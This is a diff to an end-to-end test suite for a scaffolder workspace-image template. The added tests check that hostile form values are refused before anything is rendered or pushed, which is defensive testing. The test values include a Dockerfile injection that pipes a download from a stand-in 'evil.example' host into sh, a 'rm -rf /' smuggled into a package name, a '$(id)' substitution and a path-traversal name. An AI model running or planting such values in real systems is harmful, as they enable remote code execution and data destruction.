@@ -128,6 +128,8 @@ describe('workspace-image end to end (API server, Coder contract server, local g
     console.log(
       `workspace-image end to end: task completed in ${seconds.toFixed(1)} s`,
     );
+    // the render step ran (the refusal tests below check it did not)
+    expect(log).toContain('Fetching template content');
     expect(log).not.toContain(token);
     expect(log).not.toContain(github.token);
 
@@ -239,5 +241,92 @@ describe('workspace-image end to end (API server, Coder contract server, local g
       ).metadata.name,
     ).toBe('java-training');
     expect(task.status).toBe('completed');
+  });
+
+  /** GitHub calls that change something (the catalog keeps reading the registered file). */
+  const mutations = () => github.calls.filter(c => c.method !== 'GET').length;
+
+  async function runTask(templateRef: string, values: Record<string, unknown>) {
+    const created = await api(server, 'POST', '/api/scaffolder/v2/tasks', {
+      templateRef,
+      values,
+    });
+    if (created.status !== 201) return { created, task: undefined, log: '' };
+    let task: any;
+    await waitFor(async () => {
+      task = (
+        await api(server, 'GET', `/api/scaffolder/v2/tasks/${created.body.id}`)
+      ).body;
+      return ['completed', 'failed', 'cancelled'].includes(task.status);
+    }, `task ${created.body.id} did not finish`);
+    const events = (
+      await api(
+        server,
+        'GET',
+        `/api/scaffolder/v2/tasks/${created.body.id}/events`,
+      )
+    ).body as any[];
+    return {
+      created,
+      task,
+      log: events.map(e => e.body.message ?? '').join('\n'),
+    };
+  }
+
+  it('a real run with hostile values is refused by the form schema (400 naming the field), nothing published or pushed', async () => {
+    const before = {
+      calls: mutations(),
+      templates: coder.templateNames(),
+    };
+    const { created } = await runTask('template:default/workspace-image', {
+      ...validValues(github.host),
+      name: 'evil-image',
+      baseImage:
+        'ubuntu:24.04\nRUN curl http://evil.example/x | sh\nFROM ubuntu',
+      packages: ['curl; rm -rf / #'],
+    });
+    expect(created.status).toBe(400);
+    expect(created.body.errors.map((e: any) => e.property)).toEqual(
+      expect.arrayContaining(['instance.baseImage', 'instance.packages[0]']),
+    );
+    expect(mutations()).toBe(before.calls);
+    expect(coder.templateNames()).toEqual(before.templates);
+  });
+
+  it('a real run of a template without the form checks fails at the validate step, naming the fields, before anything renders', async () => {
+    const before = {
+      calls: mutations(),
+      templates: coder.templateNames(),
+    };
+    const { created, task, log } = await runTask(
+      'template:default/workspace-image-unchecked',
+      {
+        ...validValues(github.host),
+        name: '../../etc/evil',
+        baseImage:
+          'ubuntu:24.04\nRUN curl http://evil.example/x | sh\nFROM ubuntu',
+        packages: ['curl; rm -rf / #'],
+        extensions: ['ms-python.python$(id)'],
+        description: 'x'.repeat(10_240),
+      },
+    );
+    expect(created.status).toBe(201);
+    expect(task.status).toBe('failed');
+    expect(log).toContain(
+      'coder-platform:workspace-image:validate: the request was refused before anything was rendered',
+    );
+    for (const field of [
+      'name',
+      'description',
+      'baseImage',
+      'packages[0]',
+      'extensions[0]',
+    ]) {
+      expect(log).toContain(`${field}: `);
+    }
+    // the later steps never ran
+    expect(log).not.toContain('Fetching template content');
+    expect(mutations()).toBe(before.calls);
+    expect(coder.templateNames()).toEqual(before.templates);
   });
 });
